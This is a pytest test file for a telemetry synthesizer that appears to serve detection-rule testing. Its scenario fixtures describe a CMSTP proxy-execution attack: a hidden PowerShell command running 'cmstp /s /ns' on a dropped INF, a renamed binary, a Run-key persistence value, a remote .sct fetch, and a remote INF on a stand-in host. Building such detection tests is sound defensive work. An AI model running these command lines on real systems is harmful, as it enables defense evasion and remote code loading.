"""The synthesizer: the real evtx JSON shape, the same facts in every schema, determinism, ingestibility."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from assay.catalog.models import Scenario
from assay.engine import DuckDBEngine
from assay.ingest import ingest_paths
from assay.verify.synth import Telemetry, split_command_line, synthesize, write_telemetry
from tests.verify.conftest import HOST, USER

#: A Sysmon 13+ recording with EID 1, 7, 11 and 13 (SpoolFool, 2022) in EVTX-ATTACK-SAMPLES.
SPOOLFOOL = "evtx-attack-samples/Privilege Escalation/privesc_spoolfool_mahdihtm_sysmon_1_11_7_13.evtx"
#: Sysmon 11+ network connections (EID 3) with the User field.
NETWORK_3 = "evtx-attack-samples/Defense Evasion/DE_remote_eventlog_svc_crash_byt3bl33d3r_sysmon_17_1_3.evtx"
SECURITY_4688 = "evtx-attack-samples/Privilege Escalation/NTLM2SelfRelay-med0x2e-security_4624_4688.evtx"


def scenario(scenario_id: str = "own-powershell-inf-drop", **changes: Any) -> Scenario:
    activity: dict[str, Any] = {
        "host": HOST, "user": USER, "start": "2026-03-14T09:12:31.250Z",
        "processes": [
            {"id": "ps", "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "command_line": 'powershell.exe -nop -w hidden -c "Set-Content $env:TEMP\\vpn.inf $inf; '
                             'cmstp.exe /s /ns $env:TEMP\\vpn.inf"',
             "parent_image": "C:\\Windows\\explorer.exe", "parent_command_line": "C:\\Windows\\Explorer.EXE"},
            {"id": "cmstp", "image": "C:\\Windows\\System32\\cmstp.exe",
             "command_line": '"C:\\Windows\\system32\\cmstp.exe" /s /ns '
                             'C:\\Users\\m.keller\\AppData\\Local\\Temp\\vpn.inf', "parent": "ps"},
            {"id": "renamed", "image": "C:\\Users\\Public\\svchelper.exe", "original_file_name": "CMSTP.EXE",
             "command_line": "svchelper.exe /s C:\\Users\\Public\\p.inf", "parent": "ps", "integrity": "High",
             "elevated": True},
            {"id": "calc", "image": "C:\\Windows\\System32\\calc.exe", "command_line": "calc.exe",
             "parent": "cmstp"},
        ],
        "files": [{"process": "ps", "path": "C:\\Users\\m.keller\\AppData\\Local\\Temp\\vpn.inf",
                   "content": "[version]\nSignature=$chicago$"}],
        "registry": [{"process": "cmstp", "key": "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                      "value_name": "OneDriveSync", "data": "1", "type": "REG_DWORD"}],
        "network": [{"process": "cmstp", "remote_ip": "185.199.108.133", "remote_port": 443,
                     "remote_url": "https://raw.githubusercontent.com/x/y.sct"}],
        "modules": [{"process": "cmstp", "path": "C:\\Windows\\System32\\scrobj.dll"}],
    }
    activity.update(changes)
    return Scenario.model_validate({
        "id": scenario_id, "title": "CMSTP launched from PowerShell", "kind": "attack",
        "provenance": {"own": "synthesizer test"}, "expected": {"sigma": "fires", "kql": "fires"},
        "activity": activity})


@pytest.fixture(scope="module")
def telemetry() -> Telemetry:
    return synthesize(scenario())


def _sysmon(telemetry: Telemetry, event_id: int) -> list[dict[str, Any]]:
    return [r for r in telemetry.sysmon if r["Event"]["System"]["EventID"] == event_id]


def _real_records(path: Path, event_id: int, provider: str) -> dict[str, Any]:
    import evtx

    for record in evtx.PyEvtxParser(str(path)).records_json():
        data = json.loads(record["data"])
        system = data["Event"]["System"]
        if system["EventID"] == event_id and system["Provider"]["#attributes"]["Name"] == provider:
            return data
    raise AssertionError(f"no EID {event_id} in {path}")


@pytest.mark.parametrize(("event_id", "recording"), [(1, SPOOLFOOL), (3, NETWORK_3), (7, SPOOLFOOL),
                                                     (11, SPOOLFOOL), (13, SPOOLFOOL)])
def test_sysmon_records_have_the_shape_evtx_prints_for_real_sysmon(
        shared_data: Path, telemetry: Telemetry, event_id: int, recording: str) -> None:
    real = _real_records(shared_data / recording, event_id, "Microsoft-Windows-Sysmon")
    ours = _sysmon(telemetry, event_id)[0]
    assert list(ours["Event"]) == list(real["Event"])
    assert list(ours["Event"]["System"]) == list(real["Event"]["System"])
    assert list(ours["Event"]["EventData"]) == list(real["Event"]["EventData"])
    for key, value in real["Event"]["System"].items():
        assert type(ours["Event"]["System"][key]) is type(value), key
    for key, value in real["Event"]["EventData"].items():
        assert type(ours["Event"]["EventData"][key]) is type(value), key
    assert ours["Event"]["System"]["Version"] == real["Event"]["System"]["Version"]


def test_security_4688_has_the_shape_evtx_prints_for_a_real_4688(shared_data: Path, telemetry: Telemetry) -> None:
    real = _real_records(shared_data / SECURITY_4688, 4688, "Microsoft-Windows-Security-Auditing")
    ours = telemetry.security[0]
    assert list(ours["Event"]["System"]) == list(real["Event"]["System"])
    assert list(ours["Event"]["EventData"]) == list(real["Event"]["EventData"])
    assert ours["Event"]["System"]["Security"] is None and ours["Event"]["System"]["Keywords"] == \
        real["Event"]["System"]["Keywords"]


def test_sysmon_process_create_values_look_like_sysmon(telemetry: Telemetry) -> None:
    data = _sysmon(telemetry, 1)[1]["Event"]["EventData"]
    assert data["Image"] == "C:\\Windows\\System32\\cmstp.exe"
    assert data["OriginalFileName"] == "CMSTP.EXE"
    assert data["Description"] == "Microsoft Connection Manager Profile Installer"
    assert data["Company"] == "Microsoft Corporation"
    assert data["ParentImage"].endswith("\\powershell.exe")
    hashes = dict(part.split("=") for part in data["Hashes"].split(","))
    assert list(hashes) == ["MD5", "SHA256", "IMPHASH"]
    assert len(hashes["MD5"]) == 32 and len(hashes["SHA256"]) == 64 and hashes["SHA256"].isupper()
    assert data["LogonId"].startswith("0x") and isinstance(data["ProcessId"], int) and data["ProcessId"] % 4 == 0
    guid = data["ProcessGuid"]
    assert [len(part) for part in guid.split("-")] == [8, 4, 4, 4, 12]
    # Sysmon GUIDs carry the machine id and the process start time (seconds, two little-endian words).
    seconds = int(guid.split("-")[2] + guid.split("-")[1], 16)
    assert seconds == int(telemetry.processes["cmstp"].start.timestamp())
    assert guid.split("-")[0] == data["ParentProcessGuid"].split("-")[0]


def test_renamed_binary_keeps_its_version_resource(telemetry: Telemetry) -> None:
    renamed = next(r["Event"]["EventData"] for r in _sysmon(telemetry, 1)
                   if r["Event"]["EventData"]["Image"].endswith("svchelper.exe"))
    original = next(r["Event"]["EventData"] for r in _sysmon(telemetry, 1)
                    if r["Event"]["EventData"]["Image"].endswith("cmstp.exe"))
    assert renamed["OriginalFileName"] == "CMSTP.EXE"
    assert renamed["Hashes"] == original["Hashes"]  # the same file under another name
    assert renamed["IntegrityLevel"] == "High"


def test_security_4688_encodes_pids_elevation_and_integrity_as_windows_does(telemetry: Telemetry) -> None:
    by_image = {r["Event"]["EventData"]["NewProcessName"]: r["Event"]["EventData"] for r in telemetry.security}
    cmstp = by_image["C:\\Windows\\System32\\cmstp.exe"]
    renamed = by_image["C:\\Users\\Public\\svchelper.exe"]
    assert int(cmstp["NewProcessId"], 16) == telemetry.processes["cmstp"].pid
    assert int(cmstp["ProcessId"], 16) == telemetry.processes["ps"].pid
    assert cmstp["MandatoryLabel"] == "S-1-16-8192" and cmstp["TokenElevationType"] == "%%1938"
    assert renamed["MandatoryLabel"] == "S-1-16-12288" and renamed["TokenElevationType"] == "%%1937"
    assert cmstp["SubjectUserSid"] == USER["sid"] and cmstp["TargetUserSid"] == "S-1-0-0"


def test_the_same_facts_in_every_schema(telemetry: Telemetry) -> None:
    sysmon = {r["Event"]["EventData"]["ProcessId"]: r["Event"]["EventData"] for r in _sysmon(telemetry, 1)}
    security = {int(r["Event"]["EventData"]["NewProcessId"], 16): r["Event"]["EventData"]
                for r in telemetry.security}
    defender = {row["ProcessId"]: row for row in telemetry.defender["DeviceProcessEvents"]}
    ecs = {doc["process"]["pid"]: doc for doc in telemetry.ecs if doc["event"]["code"] == "1"}
    assert set(sysmon) == set(security) == set(defender) == set(ecs) == {
        p.pid for p in telemetry.processes.values()}
    for pid, event in sysmon.items():
        row, doc, audit = defender[pid], ecs[pid], security[pid]
        assert event["CommandLine"] == audit["CommandLine"] == row["ProcessCommandLine"] == \
            doc["process"]["command_line"]
        assert event["Image"] == audit["NewProcessName"] == row["FolderPath"] == doc["process"]["executable"]
        assert event["ParentImage"] == audit["ParentProcessName"] == doc["process"]["parent"]["executable"]
        assert event["ParentImage"].lower().endswith(row["InitiatingProcessFileName"].lower())
        assert event["ParentProcessId"] == int(audit["ProcessId"], 16) == row["InitiatingProcessId"]
        assert event["User"] == f"{USER['domain']}\\{USER['name']}" and row["AccountSid"] == USER["sid"]
        assert event["UtcTime"] == row["Timestamp"].strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        assert row["DeviceName"] == f"{HOST['name']}.{HOST['domain']}".lower()
        assert doc["winlog"]["computer_name"] == f"{HOST['name']}.{HOST['domain']}"
        assert row["SHA256"].upper() in event["Hashes"]


def test_side_effects_appear_in_sysmon_and_defender(telemetry: Telemetry) -> None:
    file_event = _sysmon(telemetry, 11)[0]["Event"]["EventData"]
    assert file_event["TargetFilename"] == telemetry.defender["DeviceFileEvents"][0]["FolderPath"]
    registry = _sysmon(telemetry, 13)[0]["Event"]["EventData"]
    assert registry["TargetObject"] == (f"HKU\\{USER['sid']}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
                                        "\\OneDriveSync")
    assert registry["Details"] == "DWORD (0x00000001)"
    defender_registry = telemetry.defender["DeviceRegistryEvents"][0]
    assert defender_registry["RegistryKey"].startswith(f"HKEY_CURRENT_USER\\{USER['sid']}\\Software")
    assert (defender_registry["RegistryValueType"], defender_registry["RegistryValueData"]) == ("Dword", "1")
    network = _sysmon(telemetry, 3)[0]["Event"]["EventData"]
    assert (network["DestinationHostname"], network["DestinationPortName"]) == ("raw.githubusercontent.com",
                                                                                 "https")
    assert telemetry.defender["DeviceNetworkEvents"][0]["RemoteIPType"] == "Public"
    module = _sysmon(telemetry, 7)[0]["Event"]["EventData"]
    assert module["ImageLoaded"].endswith("scrobj.dll") and module["Signed"] == "true"
    # Events are in time order, with increasing record ids.
    record_ids = [r["Event"]["System"]["EventRecordID"] for r in telemetry.sysmon]
    assert record_ids == sorted(record_ids) and len(set(record_ids)) == len(record_ids)


def test_defender_rows_use_the_canonical_columns(telemetry: Telemetry) -> None:
    from assay.schema import canonical_tables

    for table, rows in telemetry.defender.items():
        columns = set(canonical_tables()[table].column_names) - {"AssayEventId", "AssaySource"}
        for row in rows:
            assert set(row) <= columns, (table, set(row) - columns)
        assert len(set(rows[0]) & columns) >= 0.9 * len(columns), table


def test_synthesis_is_deterministic_and_seeded_by_the_scenario_id() -> None:
    first = synthesize(scenario())
    again = synthesize(scenario())
    other = synthesize(scenario("own-powershell-inf-drop-variant"))
    assert json.dumps(first.sysmon) == json.dumps(again.sysmon)
    assert json.dumps(first.ecs) == json.dumps(again.ecs)
    assert first.defender == again.defender
    assert first.processes["cmstp"].guid != other.processes["cmstp"].guid
    assert first.processes["cmstp"].pid != other.processes["cmstp"].pid
    # A known binary is the same file everywhere: its hashes do not depend on the scenario.
    assert first.processes["cmstp"].hashes == other.processes["cmstp"].hashes


def test_every_schema_ingests_cleanly(tmp_path: Path, telemetry: Telemetry) -> None:
    files = write_telemetry(telemetry, tmp_path)
    expected_process_rows = {"sysmon": 4, "security": 4, "defender": 4, "ecs": 8}  # ECS: Sysmon + 4688 documents
    assert files["windows"] == []  # no System/PowerShell/Task Scheduler events in this scenario
    for schema, paths in files.items():
        if schema == "windows":
            continue
        engine = DuckDBEngine(None)
        try:
            summary = ingest_paths(paths, engine=engine)
            assert summary.bad_records == 0, (schema, summary.bad_record_list)
            assert not summary.events_without_mapping, (schema, summary.events_without_mapping)
            assert summary.rows_per_table["DeviceProcessEvents"] == expected_process_rows[schema], schema
            command_lines = {row[0] for row in engine.run(
                'SELECT "ProcessCommandLine" FROM "DeviceProcessEvents"').rows}
            assert command_lines == {p.command_line for p in telemetry.processes.values()}
        finally:
            engine.close()


def test_a_scenario_without_activity_cannot_be_synthesized() -> None:
    from assay.errors import VerifyError

    recording = Scenario.model_validate({
        "id": "rec-winpwnage", "title": "WinPwnage", "kind": "attack",
        "provenance": {"recording": {"path": "cmstp/sysmon_1_13_11_cmstp_ini_uacbypass.evtx"}},
        "expected": {"sigma": "fires", "kql": "fires"}})
    with pytest.raises(VerifyError, match="replays a recording"):
        synthesize(recording)


@pytest.mark.parametrize(("command_line", "args"), [
    ('"C:\\Windows\\system32\\cmstp.exe" /s "C:\\Program Files\\VPN\\a.inf"',
     ["C:\\Windows\\system32\\cmstp.exe", "/s", "C:\\Program Files\\VPN\\a.inf"]),
    ("cmstp.exe  /ni /s https://x.example/a.inf", ["cmstp.exe", "/ni", "/s", "https://x.example/a.inf"]),
])
def test_command_lines_split_like_windows(command_line: str, args: list[str]) -> None:
    assert split_command_line(command_line) == args


def test_expected_telemetry_claims_are_checked_against_the_events(telemetry: Telemetry) -> None:
    from assay.verify.expectations import inventory_of_events, unbacked_claims

    inventory = inventory_of_events(telemetry.sysmon, telemetry.security)
    backed = ["Sysmon EID 1 cmstp.exe with /s /ns and a Temp path, ParentImage powershell.exe",
              "Sysmon EID 11 powershell.exe writes vpn.inf", "Sysmon EID 7 cmstp.exe loads scrobj.dll",
              "Security 4688 for powershell.exe, cmstp.exe and calc.exe (one per process)"]
    assert unbacked_claims(backed, inventory) == []
    notes = unbacked_claims(["Sysmon EID 12 the Run key is created", "Sysmon EID 1 rundll32.exe loads the DLL",
                             "Security 4688 for cmstp.exe and mshta.exe"], inventory)
    assert len(notes) == 3
    assert "no Sysmon EID 12" in notes[0]
    assert "no Sysmon EID 1 event has Image rundll32.exe" in notes[1]
    assert "no Security 4688 event for mshta.exe" in notes[2]


def test_children_never_start_before_their_parent() -> None:
    from assay.errors import VerifyError

    base = scenario()
    assert base.activity is not None
    late_parent = [p.model_dump(exclude_none=True) for p in base.activity.processes]
    late_parent[0]["after_seconds"] = 30  # powershell starts late; its children have default times
    telemetry = synthesize(scenario(processes=late_parent))
    for process in telemetry.processes.values():
        if process.parent is not None and not process.ref.endswith(".parent"):
            assert process.start > process.parent.start, process.ref
    late_parent[1]["after_seconds"] = 5  # cmstp explicitly before its parent: the scenario is wrong
    with pytest.raises(VerifyError, match="before its parent 'ps'"):
        synthesize(scenario(processes=late_parent))


def test_declared_original_file_name_wins_over_a_known_name() -> None:
    """A renamed copy of a tool Assay has no facts for, named like a known binary, keeps its own identity."""
    from assay.verify.binaries import binary_info

    masquerade = binary_info("svchost.exe", "7za.exe")
    assert masquerade.original_file_name == "7za.exe" and masquerade.company == "-"
    assert binary_info("notepad.exe", "InstallUtil.exe").original_file_name.lower() == "installutil.exe"
    assert binary_info("svchost.exe").original_file_name.lower() == "svchost.exe"
